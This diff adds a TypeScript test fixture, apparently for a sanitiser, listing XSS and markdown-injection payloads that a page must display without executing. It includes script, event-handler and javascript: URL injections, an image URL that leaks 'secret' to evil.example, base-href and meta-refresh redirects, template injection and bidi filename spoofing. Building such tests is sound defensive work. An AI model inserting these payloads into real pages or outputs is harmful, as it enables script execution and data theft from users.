@@ -1,0 +1,38 @@
+const payloads = [
+  '<script>window.pwned=1</script>',
+  '<img src=x onerror="window.pwned=1">',
+  '<svg onload="window.pwned=1">',
+  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '[click](javascript:window.pwned=1)',
+  '[click](data:text/html,<script>window.pwned=1</script>)',
+  '![leak](https://evil.example/p.png?q=secret)',
+  '<https://evil.example/auto>',
+  '[docs](https://evil.example/a "<img src=x onerror=window.pwned=1>")',
+  '<a href="javascript:window.pwned=1">x</a>',
+  '<style>body{display:none}</style>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<form action="https://evil.example/"><button>x</button></form>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '"><script>window.pwned=1</script>',
+  "';window.pwned=1;//",
+  '{{constructor.constructor("window.pwned=1")()}}',
+  '$' + '{window.pwned=1}',
+  '\u202egnp.exe\u202c',
+  'a\u200bb\u2066c\u2069',
+  '\u0000\u0007\u001b[31mred\u001b[0m',
+  '<math><mtext><img src=x onerror=window.pwned=1></mtext></math>',
+  '<template><script>window.pwned=1</script></template>',
+  '`<b>`**<i>**',
+  '| <img src=x onerror=window.pwned=1> | b |\n| --- | --- |\n| <script>x</script> | d |',
+  '```html\n<script>window.pwned=1</script>\n```',
+  '# <img src=x onerror=window.pwned=1>',
+  '- <img src=x onerror=window.pwned=1>',
+  '> <img src=x onerror=window.pwned=1>',
+];
+
+/** Sixty texts that a page must show and never obey: alone, and within ordinary words. */
+export const hostileTexts: readonly string[] = [
+  ...payloads,
+  ...payloads.map((text, index) => `Answer ${index}: the file ${text}.pdf says **so** ${text}`),
+];
